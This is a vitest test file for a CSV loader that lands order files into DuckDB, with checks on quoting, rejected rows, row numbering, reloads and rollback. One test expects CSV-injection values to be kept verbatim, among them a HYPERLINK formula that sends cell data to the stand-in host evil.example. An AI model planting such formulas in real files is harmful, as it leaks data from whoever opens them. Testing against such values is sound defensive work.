import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ORDERS_HEADER, orderLine, ordersCsv } from '../../fixtures/inputs/orders-csv.js';
import { ExtractKit } from './extract-test-kit.js';

const FIXTURES = join(import.meta.dirname, '../../fixtures/inputs');
const fixture = (name: string) => readFile(join(FIXTURES, name));

let kit: ExtractKit;
beforeEach(async () => {
  kit = await ExtractKit.create();
});
afterEach(async () => {
  await kit.close();
});

describe('landing CSV files', () => {
  it('reads a BOM, CRLF and header variants, keeps extra columns in _extra, NULLs absent optional columns', async () => {
    const { result } = await kit.land('orders_bom_variants.csv', await fixture('orders_bom_variants.csv'), { source: 'sftp', version: 7n });
    expect(result).toMatchObject({ rowsByType: { orders: 2 }, rejectedRows: 0 });
    expect(await kit.rows('SELECT "Sales_Order_Id", "Product_Id", "Sale_Price", "Currency", "List_Price", "SSP", _extra, _version, _source, _file, _row, _loaded_at FROM raw.orders ORDER BY _row')).toEqual([
      {
        Sales_Order_Id: 'SO-1', Product_Id: 'P-1', Sale_Price: '199.90', Currency: 'usd', List_Price: null, SSP: null,
        _extra: '{"sales_region":"EMEA","account_manager":"Ann"}', _version: '7', _source: 'sftp', _file: 'orders_bom_variants.csv', _row: '2',
        _loaded_at: '2024-05-01 10:00:00',
      },
      {
        Sales_Order_Id: 'SO-2', Product_Id: 'P-2', Sale_Price: '50', Currency: 'EUR', List_Price: null, SSP: null,
        _extra: '{"sales_region":null,"account_manager":null}', _version: '7', _source: 'sftp', _file: 'orders_bom_variants.csv', _row: '3',
        _loaded_at: '2024-05-01 10:00:00',
      },
    ]);
  });

  it('keeps quoted commas, quotes and line breaks, and formula-looking text verbatim; empty cells are NULL, nothing trimmed', async () => {
    await kit.land('orders_quoted.csv', await fixture('orders_quoted.csv'));
    const rows = await kit.rows('SELECT "Sales_Order_Id" id, "Customer_Id" c, "Product_Id" p, "Order_Date" d, "Quantity" q, "Sale_Price" s, _extra->>\'note\' note, _row FROM raw.orders ORDER BY _row');
    expect(rows).toEqual([
      { id: 'SO-1', c: 'Acme, Inc.', p: 'P-1', d: '2024-01-15', q: '1', s: '1,234.50', note: 'He said "hello"', _row: '2' },
      { id: 'SO-2', c: 'C-2', p: 'P-1', d: '2024-01-15', q: '1', s: '10', note: 'line one\nline two, still the note', _row: '3' },
      { id: 'SO-3', c: 'C-3', p: 'P-1', d: '2024-01-15', q: '1', s: '=1+2', note: '=HYPERLINK("http://evil.example/?x="&A1)', _row: '4' },
      { id: 'SO-4', c: '+C-4', p: '@SUM(A1)', d: '-2+3', q: '1', s: '10', note: '  spaced  ', _row: '5' },
      { id: 'SO-5', c: 'C-5', p: 'P-1', d: '2024-01-15', q: null, s: null, note: null, _row: '6' },
    ]);
  });

  it('lands a header-only file as zero rows', async () => {
    const { result } = await kit.land('orders_empty.csv', `${ORDERS_HEADER}\n`);
    expect(result).toMatchObject({ rowsByType: { orders: 0 }, rejectedRows: 0 });
    const noNewline = await kit.land('orders_empty2.csv', ORDERS_HEADER, { version: 2n });
    expect(noNewline.result.rowsByType).toEqual({ orders: 0 });
  });

  it('rejects rows with a wrong field count and keeps every other row with its real row number', async () => {
    const csv = ordersCsv([
      orderLine('SO-1'),
      'SO-2,only,three',
      orderLine('SO-3'),
      `${orderLine('SO-4')},surplus`,
      orderLine('SO-5'),
      'SO-6;SO-6-1;C;P;2024-01-01;1;1;1;1;USD;2024-01-01;2024-01-31;',
      orderLine('SO-7'),
    ]);
    const { result } = await kit.land('orders_counts.csv', csv);
    expect(result).toMatchObject({ rowsByType: { orders: 4 }, rejectedRows: 3 });
    expect(await kit.rows('SELECT "Sales_Order_Id" id, _row FROM raw.orders ORDER BY _row')).toEqual([
      { id: 'SO-1', _row: '2' }, { id: 'SO-3', _row: '4' }, { id: 'SO-5', _row: '6' }, { id: 'SO-7', _row: '8' },
    ]);
    expect(await kit.rows('SELECT type, _row, code, message, raw_text FROM raw.rejected_rows ORDER BY _row')).toEqual([
      { type: 'orders', _row: '3', code: 'BAD_ROW', message: 'the row has 3 field(s) but the header has 13: a value is missing, or the row uses another delimiter', raw_text: 'SO-2,only,three' },
      { type: 'orders', _row: '5', code: 'BAD_ROW', message: expect.stringContaining('the row has 14 fields but the header has 13: a value holds an unquoted comma'), raw_text: `${orderLine('SO-4')},surplus` },
      { type: 'orders', _row: '7', code: 'BAD_ROW', message: expect.stringContaining('(it contains ";" or tabs: save the file comma-separated)'), raw_text: expect.stringMatching(/^SO-6;/) },
    ]);
  });

  it('counts records, not lines: multi-line values, empty lines and rejects in between keep row numbers exact', async () => {
    const csv = [
      ORDERS_HEADER,
      orderLine('SO-1'), // 2
      'SO-2,"multi', // 3: one record over two lines
      'line",C,P,2024-01-01,1,1,1,1,USD,2024-01-01,2024-01-31,',
      '', // 4: empty line, skipped
      'bad', // 5
      '', // 6
      '', // 7
      orderLine('SO-8'), // 8
      '"x"y,1,2', // 9: text after a closing quote
      orderLine('SO-10'), // 10
      '',
    ].join('\r\n');
    const { prepared, result } = await kit.land('orders_lines.csv', csv);
    expect(prepared.parts[0]?.rowNumbers).toEqual({ kind: 'ordinal', blankRecords: [4, 6, 7] });
    expect(result).toMatchObject({ rowsByType: { orders: 4 }, rejectedRows: 2 });
    expect(await kit.rows('SELECT "Sales_Order_Id" id, _row FROM raw.orders ORDER BY _row')).toEqual([
      { id: 'SO-1', _row: '2' }, { id: 'SO-2', _row: '3' }, { id: 'SO-8', _row: '8' }, { id: 'SO-10', _row: '10' },
    ]);
    expect(await kit.rows('SELECT _row, raw_text, message FROM raw.rejected_rows ORDER BY _row')).toEqual([
      { _row: '5', raw_text: 'bad', message: expect.stringContaining('the row has 1 field(s) but the header has 13') },
      { _row: '9', raw_text: '"x"y,1,2', message: expect.stringContaining('unbalanced quote') },
    ]);
  });

  it('rejects an unbalanced quote; the open quote swallows the rest of the file, which stays in raw_text', async () => {
    const csv = ordersCsv([orderLine('SO-1'), `SO-2,"unclosed,C,P,2024-01-01,1,1,1,1,USD,2024-01-01,2024-01-31,`, orderLine('SO-3'), orderLine('SO-4')]);
    const { result } = await kit.land('orders_quote.csv', csv);
    expect(result).toMatchObject({ rowsByType: { orders: 1 }, rejectedRows: 1 });
    const [reject] = await kit.rows('SELECT _row, message, raw_text FROM raw.rejected_rows');
    expect(reject).toMatchObject({
      _row: '3',
      message: 'unbalanced quote: the quote opened in this row (line 3) is never closed, so the rest of the file (3 lines) reads as one unfinished value and did not load; close the quote (a quote inside a quoted value is written "")',
    });
    expect(reject?.raw_text).toBe(`SO-2,"unclosed,C,P,2024-01-01,1,1,1,1,USD,2024-01-01,2024-01-31,\n${orderLine('SO-3')}\n${orderLine('SO-4')}\n`);
  });

  it('reports an unbalanced quote that a later quote closes as the record DuckDB makes of it', async () => {
    // RFC 4180 reads on to the next quote: the two records merge into one with too many fields.
    const csv = ordersCsv([orderLine('SO-1'), 'SO-2,"open,C', 'SO-3,x",P,2024-01-01,1,1,1,1,USD,2024-01-01,2024-01-31,,x,y', orderLine('SO-4')]);
    const { result } = await kit.land('orders_quote2.csv', csv);
    expect(result).toMatchObject({ rowsByType: { orders: 2 }, rejectedRows: 1 });
    expect(await kit.rows('SELECT "Sales_Order_Id" id, _row FROM raw.orders ORDER BY _row')).toEqual([{ id: 'SO-1', _row: '2' }, { id: 'SO-4', _row: '4' }]);
    expect(await kit.rows('SELECT _row, message FROM raw.rejected_rows')).toEqual([
      { _row: '3', message: expect.stringContaining('the row has 14 fields but the header has 13') },
    ]);
  });

  it('rejects a 10 MB line as over-long, truncating raw_text, and loads the rows around it', async () => {
    const long = `SO-2,${'x'.repeat(10 * 1024 * 1024)},C,P,2024-01-01,1,1,1,1,USD,2024-01-01,2024-01-31,`;
    const { result } = await kit.land('orders_long.csv', ordersCsv([orderLine('SO-1'), long, orderLine('SO-3')]));
    expect(result).toMatchObject({ rowsByType: { orders: 2 }, rejectedRows: 1 });
    expect(await kit.rows('SELECT "Sales_Order_Id" id, _row FROM raw.orders ORDER BY _row')).toEqual([{ id: 'SO-1', _row: '2' }, { id: 'SO-3', _row: '4' }]);
    const [reject] = await kit.rows('SELECT _row, message, left(raw_text, 10) head FROM raw.rejected_rows');
    expect(reject).toEqual({
      _row: '3',
      message: 'the row is longer than 2097152 bytes, the maximum row size: a quote left open, or a value far too long (raw_text holds its beginning)',
      head: 'SO-2,xxxxx',
    });
  });

  it('accepts long rows up to a configured maximum', async () => {
    const long = `SO-2,${'y'.repeat(3 * 1024 * 1024)},C,P,2024-01-01,1,1,1,1,USD,2024-01-01,2024-01-31,`;
    const { result } = await kit.land('orders_long2.csv', ordersCsv([long]), {}, { maxLineBytes: 8 * 1024 * 1024 });
    expect(result).toMatchObject({ rowsByType: { orders: 1 }, rejectedRows: 0 });
  });

  it('full reload replaces the rows and rejects of the same source + file, and only those', async () => {
    await kit.land('orders_a.csv', ordersCsv([orderLine('A-1'), 'broken', orderLine('A-2')]), { version: 1n });
    await kit.land('orders_b.csv', ordersCsv([orderLine('B-1')]), { version: 2n });
    await kit.land('orders_a.csv', ordersCsv([orderLine('A-1')]), { version: 3n, source: 'other' });
    await kit.land('orders_a.csv', ordersCsv([orderLine('A-9')]), { version: 4n }, { replaceFileRows: true });
    expect(await kit.rows('SELECT _source, _file, _version, "Sales_Order_Id" id FROM raw.orders ORDER BY _version')).toEqual([
      { _source: 'test', _file: 'orders_b.csv', _version: '2', id: 'B-1' },
      { _source: 'other', _file: 'orders_a.csv', _version: '3', id: 'A-1' },
      { _source: 'test', _file: 'orders_a.csv', _version: '4', id: 'A-9' },
    ]);
    expect(await kit.rows('SELECT count(*) n FROM raw.rejected_rows')).toEqual([{ n: '0' }]);
  });

  it('incremental landing keeps earlier versions of the same file', async () => {
    await kit.land('orders_a.csv', ordersCsv([orderLine('A-1')]), { version: 1n });
    await kit.land('orders_a.csv', ordersCsv([orderLine('A-1', '99.00')]), { version: 2n });
    expect(await kit.rows('SELECT _version, "Sale_Price" FROM raw.orders ORDER BY _version')).toEqual([
      { _version: '1', Sale_Price: '100.00' },
      { _version: '2', Sale_Price: '99.00' },
    ]);
  });

  it('refuses a reused version, and leaves the transaction to the caller', async () => {
    await kit.land('orders_a.csv', ordersCsv([orderLine('A-1')]), { version: 5n });
    await expect(kit.land('orders_a.csv', ordersCsv([orderLine('A-2')]), { version: 5n })).rejects.toThrow(/version 5 of test\/orders_a.csv has already landed rows/);
    expect(await kit.rows('SELECT count(*) n FROM raw.orders')).toEqual([{ n: '1' }]);
  });

  it('does not commit: a rollback by the caller removes everything', async () => {
    const prepared = await kit.prepare('orders_r.csv', ordersCsv([orderLine('R-1'), 'bad']));
    if (!prepared.ok) expect.fail(prepared.message);
    const { landPreparedFile } = await import('../../../src/extract/landing/index.js');
    await kit.conn.run('BEGIN');
    const result = await landPreparedFile(kit.conn, prepared, { version: 1n, source: 's', fileKey: 'k', loadedAt: new Date() }, { replaceFileRows: false });
    expect(result.rejectedRows).toBe(1);
    await kit.conn.run('ROLLBACK');
    await prepared.dispose();
    expect(await kit.rows('SELECT (SELECT count(*) FROM raw.orders) o, (SELECT count(*) FROM raw.rejected_rows) r')).toEqual([{ o: '0', r: '0' }]);
    expect(await kit.rows("SELECT count(*) n FROM duckdb_tables() WHERE table_name LIKE 'revrec_reject%'")).toEqual([{ n: '0' }]);
  });

  it('reads a delivered file whose path has glob characters through a plain-named link', async () => {
    const { prepared, result } = await kit.land('orders[1]*?.csv', ordersCsv([orderLine('G-1')]));
    expect(prepared.parts[0]?.csvPath).not.toContain('[');
    expect(result.rowsByType).toEqual({ orders: 1 });
    expect(await kit.tempEntries()).toEqual([]); // the link went with dispose()
  });
});
